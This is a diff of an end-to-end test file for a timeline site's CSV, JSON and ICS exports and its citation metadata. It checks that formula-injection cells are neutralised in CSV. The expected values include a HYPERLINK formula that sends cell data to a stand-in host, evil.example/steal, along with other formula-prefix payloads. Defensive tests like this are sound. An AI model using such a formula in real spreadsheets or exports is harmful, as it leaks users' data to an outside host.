@@ -6,7 +6,7 @@ import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { launch, startServer, copySite, openPage, cli, CORPUS, expectCount, waitForApp } from './support/lib.mjs';
+import { launch, startServer, copySite, openPage, cli, CORPUS, expectCount, waitForApp, parseCsv } from './support/lib.mjs';
 
 let browser, server, url;
 
@@ -20,25 +20,6 @@ after(async () => {
   server?.close();
 });
 
-/** RFC 4180: rows of cells; quoted cells may hold commas, quotes ("") and line breaks. */
-function parseCsv(text) {
-  const rows = [];
-  let row = [], cell = '', quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
-      else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') { row.push(cell); cell = ''; }
-    else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
-    else cell += c;
-  }
-  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
-  return rows;
-}
-
 /** Chooses `format` in the view's Export menu and returns the file's name and text. */
 async function exportAs(page, format) {
   await page.locator('.export-menu > summary').click();
@@ -46,8 +27,8 @@ async function exportAs(page, format) {
     page.waitForEvent('download'),
     page.locator(`.export-options [data-format="${format}"]`).click(),
   ]);
-  const text = readFileSync(await download.path(), 'utf8');
-  return { name: download.suggestedFilename(), text };
+  const data = readFileSync(await download.path());
+  return { name: download.suggestedFilename(), data, text: data.toString('utf8') };
 }
 
 const today = () => {
@@ -104,8 +85,7 @@ test('the filtered view exports as CSV, JSON and ICS: the view count, its order,
 
   const csv = await exportAs(page, 'csv');
   assert.equal(csv.name, `timeline-${today()}.csv`);
-  assert.ok(csv.text.startsWith('\uFEFF'), 'a byte-order mark, for spreadsheets');
-  const rows = parseCsv(csv.text.slice(1));
+  const rows = parseCsv(csv.data);
   assert.deepEqual(rows[0], ['id', 'date', 'title', 'summary', 'importance', 'status', 'tags', 'actors', 'lanes', 'location', 'sources', 'permalink']);
   assert.equal(rows.length - 1, expected, 'CSV: one row per event');
   assert.deepEqual(rows.slice(1).map((r) => r[0]), events.map((e) => e.id), 'the same events in the same order as the JSON');
@@ -132,29 +112,32 @@ test('the filtered view exports as CSV, JSON and ICS: the view count, its order,
   page.noProblems();
 });
 
-test('a CSV export neutralises formulas, keeps commas, quotes and line breaks, and dates span', async () => {
-  const site = await copySite('formulas', 'tests/e2e/support/fixtures/formulas');
+test('the browser\'s CSV export is the build\'s dataset, formulas neutralised, and calendar dates span', async () => {
+  const site = await copySite('formula', 'tests/e2e/support/fixtures/formula');
   try {
     const page = await openPage(browser, { acceptDownloads: true });
     await page.goto(site.url + '/');
     await waitForApp(page);
     await expectCount(page, 3);
-    const rows = parseCsv((await exportAs(page, 'csv')).text.slice(1));
-    const byId = Object.fromEntries(rows.slice(1).map((r) => [r[0], r]));
-    const hostile = byId['2021-03-04--formula-title'];
-    assert.equal(hostile[2], '\'=HYPERLINK("http://evil.example/","Click me")', 'a title starting with = is text');
-    assert.ok(hostile[3].startsWith('\'+cmd'), 'a summary starting with + is text');
-    assert.ok(hostile[6].startsWith('\'@SUM'), 'a tag cell starting with @ is text');
-    assert.ok(hostile[7].startsWith('\'-2+3'), 'an actor cell starting with - is text');
-    for (const r of rows.slice(1)) {
-      for (const cell of r) assert.ok(!/^[=+\-@\t\r]/.test(cell), `no cell starts a formula: ${cell}`);
-    }
-    assert.equal(byId['2021-03-05--plain-neighbour'][2], 'A plain event, with a comma; and "quotes"');
+    const csv = await exportAs(page, 'csv');
+    assert.equal(csv.name, `formula-fixture-${today()}.csv`, 'named after the site');
+    const exported = parseCsv(csv.data);
+    const built = parseCsv(new Uint8Array(await (await fetch(`${site.url}/data/events.csv`)).arrayBuffer()));
+    // The same writer: the same cells, but for the order (the view's, newest first) and the
+    // permalink (absolute in the browser, the site's own path in the build).
+    const withoutLink = (rows) => rows.map((r) => r.slice(0, 11).join('\u0000')).sort();
+    assert.deepEqual(withoutLink(exported), withoutLink(built));
+    assert.deepEqual(exported.slice(1).map((r) => r[0]), ['2021-06-01--formula-cells', '2021-06-02--an-ordinary-event', '2020--a-whole-year']);
+    const hostile = exported[1];
+    assert.equal(hostile[2], '\'=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")');
+    assert.equal(hostile[11], `${site.url}/event/2021-06-01--formula-cells`);
+    for (const r of exported) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
     const cal = vevents((await exportAs(page, 'ics')).text);
     const span = Object.fromEntries(cal.events.map((v) => [v.UID.split('@')[0], [v.DTSTART, v.DTEND]]));
-    assert.deepEqual(span['2021-03-05--plain-neighbour'], ['20210301', '20210401'], 'a month spans its month');
+    assert.deepEqual(span['2021-06-02--an-ordinary-event'], ['20210601', '20210701'], 'a month spans its month');
     assert.deepEqual(span['2020--a-whole-year'], ['20200101', '20210101'], 'a year spans its year');
-    assert.deepEqual(span['2021-03-04--formula-title'], ['20210304', '20210305'], 'a day is one day');
+    assert.deepEqual(span['2021-06-01--formula-cells'], ['20210601', '20210602'], 'a day is one day');
+    assert.match(cal.events.find((v) => v.UID.startsWith('2021-06-01')).SUMMARY, /^=HYPERLINK/, 'a calendar keeps the title as written (it runs no formulas)');
     page.noProblems();
   } finally {
     site.close();
@@ -285,6 +268,17 @@ test('an event cites itself as plain text, BibTeX, RIS and CSL-JSON, each copied
     assert.equal(await page.evaluate(() => navigator.clipboard.readText()), (await text(key)));
     assert.equal(await page.locator('.cite-status').textContent(), `Copied: ${name}`);
   }
+  // Reference managers read the head: it names the event shown, also after moving to
+  // another one within the app.
+  const meta = () => page.evaluate(() => [...document.querySelectorAll('meta[name="citation_title"], meta[name="DC.identifier"]')].map((m) => m.content));
+  assert.deepEqual(await meta(), [title, permalink]);
+  await page.locator('.prev-next .next').click();
+  await page.waitForFunction((t) => document.querySelector('.event-page h1')?.textContent.trim() !== t, title);
+  await waitForApp(page);
+  const next = (await page.locator('.event-page h1').textContent()).trim();
+  const [nextTitle, nextLink] = await meta();
+  assert.equal(nextTitle, next);
+  assert.equal(nextLink, page.url());
   page.noProblems();
 });
 
